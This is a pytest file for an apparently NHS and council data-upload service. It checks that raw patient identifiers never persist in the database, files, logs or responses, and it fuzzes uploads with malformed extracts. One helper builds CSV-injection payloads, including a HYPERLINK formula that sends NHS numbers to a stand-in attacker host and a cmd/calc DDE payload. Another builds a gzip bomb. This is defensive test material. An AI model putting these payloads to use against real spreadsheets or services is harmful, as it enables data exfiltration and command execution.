"""The canary: upload synthetic extracts through the real app, then look everywhere for
any raw identifier of the input and find none.

Scanned: a logical dump of every table (binary columns as hex, as pg_dump writes them);
on SQLite also the raw database, WAL and journal files; on PostgreSQL also a real
``pg_dump``; every file in the data directory; the app's temporary directory; and
every log line the run produced. Names are sought as whole words (4+ letters) minus
the words a store holds before any upload (policy text, audit vocabulary), so that a
surname that is also an English word in the policy does not cry wolf.
"""

from __future__ import annotations

import contextlib
import csv
import gzip
import io
import json
import logging
import re
import subprocess
import tempfile
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, inspect, text
from sqlalchemy.engine import make_url

from app.auth.actor import Actor
from app.synth import write_extracts
from privacy import normalise
from tests.api.uploads import add_council_submitter, upload
from tests.store_scan import scan_store

WORD = re.compile(r"[a-z]{4,}")


IDENTIFIER_COLUMNS = {
    "nhs_number",
    "given_name",
    "family_name",
    "date_of_birth",
    "sex",
    "postcode",
    "episode_id",
    "client_id",
}


def identifiers(paths: list[Path]) -> tuple[set[str], set[str]]:
    """(exact strings to find anywhere, name words to find as whole words).

    A value that is also a kept attribute somewhere (a baby's date of birth that is also
    an admission date) is legitimately stored as that attribute, so it is left out.
    """
    exact: set[str] = set()
    names: set[str] = set()
    kept: set[str] = set()
    for path in paths:
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.DictReader(handle):
                for column, value in row.items():
                    if column not in IDENTIFIER_COLUMNS and value:
                        parsed = normalise.event_date(value)
                        kept.add(parsed.isoformat() if parsed else value.strip())
                nhs = row["nhs_number"].strip()
                if nhs:
                    exact.add(nhs)
                    exact.add(re.sub(r"\D", "", nhs))
                for name in (row["given_name"], row["family_name"]):
                    for part in normalise.name_parts(name):
                        if len(part) >= 4:
                            names.add(part)
                    names.update(w for w in WORD.findall(name.lower()))
                pc = normalise.postcode(row["postcode"])
                if pc is not None:
                    exact.update({pc.full, pc.full.replace(" ", ""), row["postcode"].strip()})
                born = normalise.birth_date(row["date_of_birth"], today=date.today())
                if born is not None:
                    exact.update(
                        {
                            row["date_of_birth"].strip(),
                            born.isoformat(),
                            born.strftime("%d/%m/%Y"),
                            f"{born.day}/{born.month}/{born.year}",
                            born.strftime("%Y%m%d"),
                            born.strftime("%d-%m-%Y"),
                        }
                    )
                record_id = row.get("episode_id") or row.get("client_id") or ""
                exact.add(record_id.strip())
    exact.discard("")
    return {e for e in exact if len(e) >= 6} - kept, names


def logical_dump(engine: Engine) -> str:
    lines = []
    with engine.connect() as conn:
        for table in inspect(conn).get_table_names():
            for row in conn.execute(text(f'SELECT * FROM "{table}"')):
                for value in row:
                    lines.append(
                        value.hex() if isinstance(value, bytes | memoryview) else str(value)
                    )
    return "\n".join(lines)


def words_of(text_: str) -> set[str]:
    return set(WORD.findall(text_.lower()))


def file_texts(directory: Path) -> dict[Path, str]:
    return {p: p.read_bytes().decode("latin-1") for p in directory.rglob("*") if p.is_file()}


@pytest.fixture
def council_submitter(ctx, people):
    return add_council_submitter(ctx)


@pytest.fixture
def response_bodies(client) -> list[str]:
    """Every response body the test client receives, in order (scanned like a log)."""
    bodies: list[str] = []

    def keep(response: Any) -> None:
        response.read()
        bodies.append(response.content.decode("latin-1"))

    client.event_hooks["response"].append(keep)
    return bodies


@pytest.fixture
def app_tmp(tmp_path_factory, monkeypatch) -> Path:
    """The app's temporary directory, to be scanned: ``tempfile`` makes its files there."""
    directory = tmp_path_factory.mktemp("canary-apptmp")
    monkeypatch.setattr(tempfile, "tempdir", str(directory))
    return directory


def database_places(settings, admin_engine: Engine, backend: str) -> dict[str, str]:
    """The database as an attacker with a copy of it reads it: a logical dump of every
    table, and the SQLite files' bytes or a real ``pg_dump``."""
    places: dict[str, str] = {"database (logical dump)": logical_dump(admin_engine)}
    if backend == "sqlite":
        db_file = Path(make_url(settings.database_url).database or "")
        for suffix in ("", "-wal", "-shm", "-journal"):
            candidate = Path(f"{db_file}{suffix}")
            if candidate.exists():
                places[f"sqlite file {candidate.name}"] = candidate.read_bytes().decode("latin-1")
    else:
        places["pg_dump"] = pg_dump(settings.database_url)
    return places


def pg_dump(database_url: str) -> str:
    url = make_url(database_url)
    dumped = subprocess.run(
        ["pg_dump", "-h", url.host or "127.0.0.1", "-p", str(url.port or 5432), url.database or ""],
        capture_output=True,
        text=True,
        check=True,
        timeout=300,
    )
    return dumped.stdout


def everywhere(
    settings,
    admin_engine: Engine,
    backend: str,
    app_tmp: Path,
    caplog: pytest.LogCaptureFixture,
    capsys: pytest.CaptureFixture[str],
    bodies: list[str],
) -> dict[str, str]:
    """Every place a raw value could end up: the database, the data and temporary
    directories, every log record and line, and every response body."""
    places = database_places(settings, admin_engine, backend)
    for path, content in {**file_texts(settings.data_dir), **file_texts(app_tmp)}.items():
        places[str(path)] = content
    captured = capsys.readouterr()
    places["logs"] = "\n".join(
        [r.getMessage() + json.dumps(r.__dict__, default=str) for r in caplog.records]
        + [captured.out, captured.err]
    )
    places["response bodies"] = "\n".join(bodies)
    return places


@contextlib.contextmanager
def all_logs(caplog: pytest.LogCaptureFixture) -> Iterator[None]:
    """The app's JSON logging at DEBUG, captured, for the length of the block."""
    from app.logs import configure_logging

    configure_logging("DEBUG")
    try:
        with caplog.at_level(logging.DEBUG):
            yield
    finally:
        logging.getLogger().handlers[:] = []


def test_no_raw_identifier_is_kept_anywhere_after_real_uploads(
    client,
    ctx,
    settings,
    people,
    council_submitter,
    admin_engine,
    backend,
    caplog,
    capsys,
    tmp_path_factory,
    app_tmp,
    response_bodies,
):
    inputs = tmp_path_factory.mktemp("canary-input")
    write_extracts(inputs, persons=400, seed=14)  # a seed with 11 social-care rows
    episodes, clients = inputs / "nhs_episodes.csv", inputs / "asc_clients.csv"

    baseline = words_of(logical_dump(admin_engine))
    with all_logs(caplog):
        first = upload(client, people["submitter"].token, episodes, "nhs_episodes")
        second = upload(client, council_submitter, clients, "asc_clients")
    assert first["status"] == second["status"] == "accepted"
    assert first["rows_accepted"] > 100 and second["rows_accepted"] > 5

    exact, names = identifiers([episodes, clients])
    names -= baseline
    assert len(exact) > 500 and len(names) > 100

    places = everywhere(settings, admin_engine, backend, app_tmp, caplog, capsys, response_bodies)
    found = leaks(places, exact, names)
    assert not found, "\n".join(found)


#: In binary content (database files), a name counts only from this many letters.
#: Sealed batches are megabytes of random bytes, in which runs of letters occur by
#: chance: a given 4-letter word turns up in 5 MB of random bytes about once in a
#: thousand tries, and a few hundred short names made the test flaky; a given 7-letter
#: word, about once in 10^11. (Text places — dumps, logs, responses — use every name.)
MIN_NAME_IN_BINARY = 7
HEX_LETTERS = re.compile(r"[a-f]+")
#: A value made only of hex digits (an NHS number, a date of birth as ``YYYYMMDD``) turns
#: up inside the hex of random ciphertext by chance: a given 8-digit date is in a random
#: hex string of 10 MB about once in 400 tries, and a few hundred dates of birth made the
#: store-attack test fail one run in eight. Such values are therefore sought in text with
#: every run of this many hex digits or more blanked out. That is fewer than the shortest
#: hex the store writes (a 16-byte nonce or digest, 32 digits) and more than any raw
#: identifier, which, written as text, stands apart from its neighbours (a quote, a
#: space, a separator).
HEX_RUN = re.compile(r"[0-9a-fA-F]{24,}")
HEX_VALUE = re.compile(r"[0-9a-fA-F]+")


def without_hex_runs(content: str) -> str:
    """``content`` with each long run of hex digits blanked (same length, no hex)."""
    return HEX_RUN.sub(lambda m: " " * len(m.group()), content)


def is_binary(content: str) -> bool:
    """Raw file bytes (read as latin-1) rather than text: many control characters."""
    sample = content[:65536]
    controls = sum(1 for ch in sample if ord(ch) < 32 and ch not in "\t\n\r")
    return bool(sample) and controls > len(sample) // 20


def leaks(places: dict[str, str], exact: set[str], names: set[str]) -> list[str]:
    """Where raw values turn up (counts only: the test output must not leak them either)."""
    found = []
    long_names = {n for n in names if len(n) >= MIN_NAME_IN_BINARY}
    # Binary values are written as hex in dumps (and by pg_dump): a name made only of the
    # letters a-f ("becca") turns up in megabytes of hex by chance, so it is sought only
    # where no hex is (raw binary files use the length rule above instead).
    text_names = {n for n in names if not HEX_LETTERS.fullmatch(n)}
    hex_values = {v for v in exact if HEX_VALUE.fullmatch(v)}
    for where, content in places.items():
        binary = is_binary(content)
        blanked = content if binary else without_hex_runs(content)
        hits = sum(1 for value in exact - hex_values if value in content)
        hits += sum(1 for value in hex_values if value in blanked)
        sought = long_names if binary else text_names
        name_hits = len(sought & words_of(content))
        if hits or name_hits:
            found.append(f"{where}: {hits} values, {name_hits} names")
    return found


def test_the_canary_finds_a_planted_identifier(ctx, admin_engine, tmp_path):
    """Guard against a scan that cannot fail: plant one value of each kind and find it."""
    write_extracts(tmp_path, persons=50, seed=5)
    exact, names = identifiers([tmp_path / "nhs_episodes.csv"])
    nhs = next(v for v in exact if v.isdigit() and len(v) == 10)
    name = sorted(names)[0]
    from app.audit.log import AuditLog

    with ctx.sessions() as session, session.begin():
        AuditLog(session).record(Actor.cli(), "test.plant", details={"oops": f"{nhs} {name}"})
    found = leaks({"db": logical_dump(admin_engine)}, exact, names)
    assert found == ["db: 1 values, 1 names"]


def test_a_date_inside_random_hex_is_chance_and_one_beside_it_is_a_leak():
    """The scan's one allowance (``HEX_RUN``) hides neither a value nor its neighbours."""
    cipher = "9b40c0f2f56dfab5d5cff09de51328cd95b8962ce4e87c0b744c"
    date_of_birth, nhs = "19980325", "9434765919"
    by_chance = f"{cipher}{date_of_birth}d91200e967d174c61348df5f0399a9b378677654b124"
    assert leaks({"db": by_chance}, {date_of_birth}, set()) == []
    for written in (
        f"{cipher}\n{date_of_birth}\n{cipher}",
        f'{{"dob": "{date_of_birth}", "hash": "{cipher}"}}',
        f"{cipher} {nhs},{cipher}",
        f"note {date_of_birth}",
    ):
        found = leaks({"db": written}, {date_of_birth, nhs}, set())
        assert found == ["db: 1 values, 0 names"], written
    assert leaks({"file": "\x00\x01" * 40 + cipher + nhs}, {nhs}, set()) == [
        "file: 1 values, 0 names"
    ], "raw bytes are not hex: nothing is blanked there"


# --------------------------------------------------------------------------- malformed extracts


def _rows(text_: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text_, newline="")))


def _csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def header_less(text_: str) -> bytes:
    """The extract without its header row: the first patient's cells arrive as a header."""
    return _csv(_rows(text_)[1:])


def value_in_header(text_: str) -> bytes:
    """One extra header cell holding a patient's NHS number, an empty cell in each row."""
    header, *rows = _rows(text_)
    return _csv([[*header, rows[0][0]], *([*r, ""] for r in rows)])


def shifted_columns(text_: str) -> bytes:
    """A stray comma after the NHS number in every other row: each identifier moves one
    column right (the family name into the date of birth, the record id into the
    admission date...) and the last cell drops off, so the cell count still fits."""
    header, *rows = _rows(text_)
    return _csv([header, *([r[0], "", *r[1:-1]] if i % 2 else r for i, r in enumerate(rows))])


def identifiers_in_attributes(text_: str) -> bytes:
    """Every attribute column holding an identifier of its own row."""
    header, *rows = _rows(text_)
    at = {name: header.index(name) for name in header}
    moved = {
        "admission_date": "postcode",
        "discharge_date": "nhs_number",
        "admission_method": "given_name",
        "primary_diagnosis": "family_name",
        "provider_code": "episode_id",
    }
    out = [header]
    for row in rows:
        row = list(row)
        for attribute, identifier in moved.items():
            row[at[attribute]] = row[at[identifier]]
        out.append(row)
    return _csv(out)


def nul_bytes(text_: str) -> bytes:
    """A NUL byte inside the names and the postcode of every row."""
    header, *rows = _rows(text_)
    at = [header.index(c) for c in ("given_name", "family_name", "postcode")]
    out = [header]
    for row in rows:
        row = list(row)
        for i in at:
            half = len(row[i]) // 2
            row[i] = f"{row[i][:half]}\x00{row[i][half:]}"
        out.append(row)
    return _csv(out)


def formula_payloads(text_: str) -> bytes:
    """Spreadsheet formulas around the identifiers (CSV injection payloads)."""
    header, *rows = _rows(text_)
    given, family = header.index("given_name"), header.index("family_name")
    out = [header]
    for row in rows:
        row = list(row)
        row[given] = f'=HYPERLINK("http://evil.example/?{row[0]}","{row[given]}")'
        row[family] = f"+cmd|' /C calc {row[family]}'!A0"
        out.append(row)
    return _csv(out)


def gzip_bomb(text_: str) -> bytes:
    """A few real rows, then 8 MiB of blank lines: about 1000:1 compressed."""
    lines = text_.splitlines(keepends=True)
    return gzip.compress("".join(lines[:4]).encode() + b"\n" * (8 * 1024 * 1024), 9)


#: (how the extract is spoiled, what the service must do with it, marks until fixed)
MALFORMED: list[tuple[Callable[[str], bytes], str, tuple[pytest.MarkDecorator, ...]]] = [
    (header_less, "refused", ()),
    (value_in_header, "refused", ()),
    (shifted_columns, "either", ()),
    (identifiers_in_attributes, "either", ()),
    (nul_bytes, "either", ()),
    (formula_payloads, "either", ()),
    (gzip_bomb, "refused", ()),
]


def send(client, token: str, body: bytes, schema: str) -> tuple[int, dict[str, Any]]:
    """POST then one PATCH, as ``upload`` does, but a refusal is an answer, not a failure
    (and no assertion message quotes a body)."""
    headers = {"Authorization": f"Bearer {token}"}
    created = client.post(
        "/api/v1/submissions",
        json={"schema": schema},
        headers={**headers, "Upload-Length": str(len(body))},
    )
    assert created.status_code == 201, "the submission was not created"
    done = client.patch(
        f"/api/v1/submissions/{created.json()['id']}",
        content=body,
        headers={
            **headers,
            "Upload-Offset": "0",
            "Content-Type": "application/offset+octet-stream",
        },
    )
    answer = done.json() if done.headers.get("content-type", "").endswith("json") else {}
    return done.status_code, answer


@pytest.mark.parametrize(
    ("make", "outcome"),
    [pytest.param(m, o, id=m.__name__, marks=marks) for m, o, marks in MALFORMED],
)
def test_no_raw_identifier_of_a_malformed_extract_is_kept_or_echoed(
    make,
    outcome,
    client,
    ctx,
    settings,
    people,
    admin_engine,
    backend,
    caplog,
    capsys,
    tmp_path,
    app_tmp,
    response_bodies,
):
    write_extracts(tmp_path, persons=60, seed=17)
    clean = tmp_path / "nhs_episodes.csv"
    body = make(clean.read_text(encoding="utf-8"))
    baseline = words_of(logical_dump(admin_engine))
    with all_logs(caplog):
        status, answer = send(client, people["submitter"].token, body, "nhs_episodes")
        listed = client.get("/api/v1/submissions", headers=_bearer(people["submitter"].token))
        assert listed.status_code == 200
    accepted = status == 200 and answer.get("status") == "accepted"
    assert status < 500, f"{make.__name__}: the service failed (HTTP {status})"
    if outcome == "refused":
        assert not accepted, f"{make.__name__}: the extract was accepted"

    exact, names = identifiers([clean])
    names -= baseline
    assert exact and names
    places = everywhere(settings, admin_engine, backend, app_tmp, caplog, capsys, response_bodies)
    found = leaks(places, exact, names)
    assert not found, "\n".join(found)


def _bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def test_the_store_scan_finds_repeats_and_plaintext_in_a_planted_table(admin_engine, backend):
    """The companion of ``test_store_attack.py`` (xfail until the sealed store lands): a
    table of repeated tokens, borough names and age bands is caught, on both databases."""
    blob = "bytea" if backend == "postgresql" else "BLOB"
    with admin_engine.begin() as conn:
        conn.execute(text(f"CREATE TABLE planted (tok {blob}, borough VARCHAR(40), band TEXT)"))
        for _ in range(3):
            conn.execute(
                text("INSERT INTO planted VALUES (:t, 'Camden', '85-89')"), {"t": b"\x01" * 48}
            )
    planted = [f for f in scan_store(admin_engine).findings() if f.startswith("planted:")]
    assert planted == [
        "planted: 1 values of 8+ bytes repeat (at most 3 times) in columns tok",
        "planted: 3 plaintext age band",
        "planted: 3 plaintext borough name",
    ]
